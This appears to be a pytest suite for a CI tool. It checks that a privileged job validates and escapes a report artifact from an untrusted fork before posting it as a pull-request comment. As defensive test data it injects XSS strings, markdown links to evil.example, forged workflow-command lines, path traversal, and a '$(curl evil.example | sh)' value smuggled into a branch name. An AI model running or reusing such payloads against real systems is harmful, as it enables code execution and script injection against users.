"""Fork-safe PR reports: the privileged second stage posts a report artifact from an
unprivileged run only after validating it as data, and re-renders it with escaping."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.conftest import Project
from tests.fakes.github_api import FakeGitHub
from tests.integration.test_github import REPO, actions_env


@pytest.fixture
def artifact(pr: Project, fake: FakeGitHub, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[Path, str]:
    """Stage 1: the fork's run writes the report JSON (its token cannot comment)."""
    actions_env(monkeypatch, fake, tmp_path, pr)
    path = tmp_path / "mlops-ci-report.json"
    pr.ok("report", "--json", "--output", str(path))
    head = pr.git("rev-parse", "HEAD")
    fake.pulls[(REPO, 7)] = head
    return path, head


def post(project: Project, path: Path, head: str, *extra: str) -> tuple[int, str, str]:
    return project.cli("comment", "--from-artifact", str(path), "--expect-head-sha", head, *extra)


def test_the_second_stage_posts_the_validated_report(pr: Project, fake: FakeGitHub, artifact):
    path, head = artifact
    code, _, err = post(pr, path, head)
    assert code == 0, err
    (comment,) = fake.pr_comments(REPO, 7)
    assert comment["body"].startswith("<!-- mlops-ci:report project=fast -->")
    assert "| accuracy | 0.9 | 0.93 | +0.03 (+3.33%) | 🟢 better |" in comment["body"]
    assert post(pr, path, head)[0] == 0 and len(fake.pr_comments(REPO, 7)) == 1  # still one comment


def test_markdown_and_html_in_the_artifact_are_escaped(pr: Project, fake: FakeGitHub, artifact):
    path, head = artifact
    data = json.loads(path.read_text())
    data["marker"] = "<script>alert(1)</script>"  # ignored: the marker is recomputed
    data["comparison"]["metrics"][0]["name"] = "<img src=x onerror=alert(1)> [click](https://evil.example) @org/team"
    data["comparison"]["baseline_note"] = "</details><script>steal()</script>"
    data["context"]["head_ref"] = "`$(curl evil.example | sh)`"
    hostile = {"instance_type": "<img src=y>|x", "price_source": "[bill](https://evil.example)"}
    data["comparison"]["head"]["cost"] = {**hostile, "instance_count": 1, "usd": 1.5, "billable_seconds": 60}
    path.write_text(json.dumps(data))
    assert post(pr, path, head)[0] == 0
    body = fake.pr_comments(REPO, 7)[0]["body"]
    assert "Training cost (estimate)" in body and "$1.50" in body and "&lt;img src=y&gt;\\|x" in body
    for raw in ("<script>", "<img", "[click](https", "[bill](https", "@org", "</details><script>"):
        assert raw not in body
    assert "(\\`$(curl evil.example \\| sh)\\`)" in body  # an inert code-less span of text
    assert "&lt;img src=x onerror=alert(1)&gt; \\[click\\](https://evil.example) &#64;org/team" in body


def test_a_forged_model_diff_is_rendered_inert(pr: Project, fake: FakeGitHub, artifact):
    from tests.unit.test_model_diff import hostile_diff

    path, head = artifact
    data = json.loads(path.read_text())
    data["comparison"]["model_diff"] = hostile_diff()
    path.write_text(json.dumps(data))
    code, _, err = post(pr, path, head)
    assert code == 0, err
    body = fake.pr_comments(REPO, 7)[0]["body"]
    assert "### Model diff" in body and "**Flip rate 50.00 %**" in body
    for raw in ("<script>", "[a](https", "@org", "\n::error::", "\n##[error]"):
        assert raw not in body


TUNING = {
    "metric": "accuracy\n::error::forged", "goal": "maximize", "strategy": "Random", "trials": 8, "completed": 7,
    "best_run": "abc", "top": [{"trial": 3, "run_id": "abc`<script>x</script>", "status": "completed",
                                "objective": 0.9, "values": {"lr<img src=x>": "[a](https://e.vil) @org\n##[error]x"}}],
}  # fmt: skip


def test_a_forged_leaderboard_is_rendered_inert(pr: Project, fake: FakeGitHub, artifact):
    path, head = artifact
    data = json.loads(path.read_text())
    data["comparison"]["tuning"] = TUNING
    path.write_text(json.dumps(data))
    code, _, err = post(pr, path, head)
    assert code == 0, err
    body = fake.pr_comments(REPO, 7)[0]["body"]
    assert "### Tuning: best of 7 completed trial(s) of 8" in body
    for raw in ("<script>", "<img", "[a](https", "@org", "\n::error::", "\n##[error]"):
        assert raw not in body


@pytest.mark.parametrize(
    ("mutate", "reason"),
    [
        (lambda d: d.update(schema="other/v9"), "schema must be mlops-ci/report/v1"),
        (lambda d: d.update(extra="x"), "unexpected field"),
        (lambda d: d["comparison"]["metrics"][0].update(old="DROP TABLE"), "must be a number"),
        (lambda d: d["comparison"]["metrics"][0].update(direction="<b>"), "direction is not valid"),
        (lambda d: d["comparison"].update(project="../../etc"), "comparison.project is not valid"),
        (lambda d: d["comparison"]["metrics"].extend([d["comparison"]["metrics"][0]] * 5001), "at most 5000"),
        (lambda d: d["comparison"]["head"].update(sha="not-a-sha"), "comparison.head.sha is not valid"),
        (lambda d: d["context"].update(pr=-1), "context.pr must be a positive"),
        (lambda d: d["gate"]["results"][0].update(rule="x" * 5000), "at most 2000 characters"),
        (lambda d: d["comparison"]["head"].update(cost={"usd": "$1e9"}), "comparison.head.cost.usd must be a number"),
        (lambda d: d["comparison"]["head"].update(cost={"invoice": 1}), "comparison.head.cost has unexpected field"),
        (lambda d: d["comparison"]["head"].update(cost={"spot": "yes"}), "comparison.head.cost.spot must be true"),
        (lambda d: d["comparison"].update(model_diff={"status": "pwned"}), "comparison.model_diff.status must be one"),
        (
            lambda d: d["comparison"].update(tuning={**TUNING, "strategy": "<b>"}),
            "comparison.tuning.strategy must be one",
        ),
        (
            lambda d: d["comparison"].update(tuning={**TUNING, "top": [{**TUNING["top"][0], "values": {"a": [1]}}]}),
            "must be a string of at most",
        ),
        (lambda d: d["comparison"].update(tuning={**TUNING, "top": [TUNING["top"][0]] * 21}), "at most 20 trials"),
        (lambda d: d["comparison"].update(tuning={**TUNING, "sql": 1}), "comparison.tuning has unexpected field"),
        (lambda d: d["comparison"].update(model_diff={"rows": "1 | <b>"}), "model_diff.rows must be a whole number"),
        (
            lambda d: d["comparison"].update(model_diff={"classification": {"confusion": [["<b>"]]}}),
            "comparison.model_diff.classification.confusion[0][0] must be a whole number",
        ),
        (lambda d: d["comparison"].update(model_diff={"evil": 1}), "comparison.model_diff has unexpected field"),
        (lambda d: d["comparison"].update(model_diff={"top": {"rows": [None]}}), "top.rows[0] must not be null"),
        (lambda d: d["comparison"].update(model_diff={"flip_rate": 10**400}), "flip_rate is too large a number"),
        (lambda d: d["comparison"].update(model_diff={"rows": 10**30}), "rows must be a whole number of at most"),
        (
            lambda d: d["comparison"].update(model_diff={"metrics": {"flip_rate": "0"}}),
            "comparison.model_diff.metrics['flip_rate'] must be a number",
        ),
    ],
)
def test_malformed_artifacts_are_refused(pr: Project, fake: FakeGitHub, artifact, mutate, reason: str):
    path, head = artifact
    data = json.loads(path.read_text())
    mutate(data)
    path.write_text(json.dumps(data))
    code, _, err = post(pr, path, head)
    assert code == 5 and reason in err and "refusing it" in err
    assert fake.pr_comments(REPO, 7) == []


def test_not_json_and_oversized_artifacts_are_refused(pr: Project, fake: FakeGitHub, artifact):
    path, head = artifact
    path.write_text("{not json")
    code, _, err = post(pr, path, head)
    assert code == 5 and "not valid JSON" in err
    with open(path, "wb") as fh:
        fh.truncate(20 * 1024 * 1024 + 1)
    code, _, err = post(pr, path, head)
    assert code == 5 and "over the 20971520-byte limit" in err
    assert fake.pr_comments(REPO, 7) == []


def test_a_forged_pr_number_is_refused(pr: Project, fake: FakeGitHub, artifact):
    path, head = artifact
    fake.pulls[(REPO, 8)] = "e" * 40  # someone else's PR
    data = json.loads(path.read_text())
    data["context"]["pr"] = 8
    path.write_text(json.dumps(data))
    code, _, err = post(pr, path, head)
    assert code == 5 and "refusing to post a report to another pull request" in err
    assert fake.pr_comments(REPO, 8) == []


def test_a_report_about_another_commit_is_refused(pr: Project, fake: FakeGitHub, artifact):
    path, _ = artifact
    code, _, err = post(pr, path, "d" * 40)
    assert code == 5 and "but the run built dddddddd" in err
    code, _, err = pr.cli("comment", "--from-artifact", str(path))
    assert code == 2 and "MLOPS_CI_EXPECTED_HEAD_SHA" in err
    assert fake.pr_comments(REPO, 7) == []
